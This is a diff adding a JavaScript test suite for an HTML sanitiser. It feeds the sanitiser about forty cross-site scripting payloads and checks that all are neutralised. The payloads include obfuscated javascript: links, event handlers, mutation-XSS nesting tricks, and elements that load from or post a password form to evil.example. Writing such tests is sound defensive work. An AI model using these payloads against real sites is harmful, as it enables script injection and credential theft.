@@ -1,0 +1,109 @@
+import { cleanHtml } from './clean-html'
+
+const hostile = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="https://a.example/a.png" onload=alert(1)>',
+  '<img src="javascript:alert(1)">',
+  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<img srcset="https://evil.example/a.png 1x" src="https://a.example/a.png">',
+  '<img src="`><script>alert(1)</script>">',
+  '<a href="javascript:alert(1)">a</a>',
+  '<a href="JaVaScRiPt:alert(1)">a</a>',
+  '<a href=" &#14; javascript:alert(1)">a</a>',
+  '<a href="java&#10;script:alert(1)">a</a>',
+  '<a href="jav&#x09;ascript:alert(1)">a</a>',
+  '<a href="&#106;avascript&colon;alert(1)">a</a>',
+  '<a href="vbscript:msgbox(1)">a</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
+  '<a href="https://a.example" onclick="alert(1)" target="_top">a</a>',
+  '<p style="background:url(javascript:alert(1))">a</p>',
+  '<p id="site" class="shell" data-region="page">a</p>',
+  '<p ONMOUSEOVER="alert(1)">a</p>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<template><script>alert(1)</script></template>',
+  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
+  '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>">',
+  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
+  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
+  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<textarea></textarea><script>alert(1)</script>',
+  '<title><img src=x onerror=alert(1)></title>',
+  '<xmp><img src=x onerror=alert(1)></xmp>',
+  '<!-- <img src=x onerror=alert(1)> --><!--><script>alert(1)</script>-->',
+  '<details open ontoggle=alert(1)>a</details>',
+  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
+  '<body onload=alert(1)><p>a',
+  '<p>a<p title="&quot;><script>alert(1)</script>">b',
+]
+
+const mayStay =
+  /^(?:h[2-6]|p|a|img|div|table|tbody|thead|tfoot|tr|th|td|caption|ul|ol|li|strong|em|code|pre|blockquote)$/
+
+test.each(hostile)('takes the danger out of %s', (html) => {
+  const page = document.createElement('div')
+
+  page.innerHTML = cleanHtml(html)
+
+  for (const element of page.querySelectorAll('*')) {
+    expect(element.localName).toMatch(mayStay)
+    for (const { name, value } of element.attributes) {
+      expect(name).not.toMatch(/^on|^style$|^id$|^class$|^srcset$|^target$|^data-|^title$/)
+      if (name === 'href' || name === 'src') expect(value).toMatch(/^https:\/\/a\.example/)
+    }
+  }
+  expect(cleanHtml(page.innerHTML)).not.toMatch(/<script|<style|<svg|<iframe|<!--/i)
+})
+
+test.each([
+  ['puts headings below the title of the page', '<h1>A</h1>', '<h2>A</h2>'],
+  [
+    'keeps emphasis',
+    '<p><strong>A</strong> <em>b</em></p>',
+    '<p><strong>A</strong> <em>b</em></p>',
+  ],
+  ['keeps lists', '<ol start="3"><li>A</li></ol>', '<ol start="3"><li>A</li></ol>'],
+  ['keeps code', '<pre><code>a &lt; b</code></pre>', '<pre><code>a &#x3C; b</code></pre>'],
+  ['keeps lines apart', '<div>A</div><div>B</div>', '<p>A</p><p>B</p>'],
+  ['unwraps what only groups', '<section><p>A</p></section>', '<p>A</p>'],
+  ['closes what is open', '<p>A<b>B', '<p>A<b>B</b></p>'],
+  ['keeps the text of what it does not know', '<p><blink>A</blink></p>', '<p>A</p>'],
+  ['drops pictures without an address', '<p>A<img alt="B"></p>', '<p>A</p>'],
+  ['leaves nothing of nothing', '', ''],
+])('%s', (_, html, expected) => {
+  expect(cleanHtml(html)).toBe(expected)
+})
+
+test.each([
+  'https://a.example/b?c=d',
+  'http://a.example',
+  'mailto:a@b.example',
+  'tel:+911',
+  '/blog/a',
+])('keeps a link to %s', (href) => {
+  expect(cleanHtml(`<a href="${href}">A</a>`)).toBe(
+    `<a href="${href}" rel="noopener noreferrer">A</a>`,
+  )
+})
+
+test('loads pictures when they come into view', () => {
+  const html = cleanHtml('<img src="https://a.example/a.png" width="4" height="3">')
+
+  expect(html).toBe(
+    '<img alt="" src="https://a.example/a.png" width="4" height="3" loading="lazy" decoding="async">',
+  )
+})
+
+test('lets a table scroll inside itself', () => {
+  const html = cleanHtml('<table><tr><td>A</td></tr></table>')
+
+  expect(html).toMatch(
+    /^<div role="group" aria-label="Table" tabindex="0"><table>.*<\/table><\/div>$/,
+  )
+})
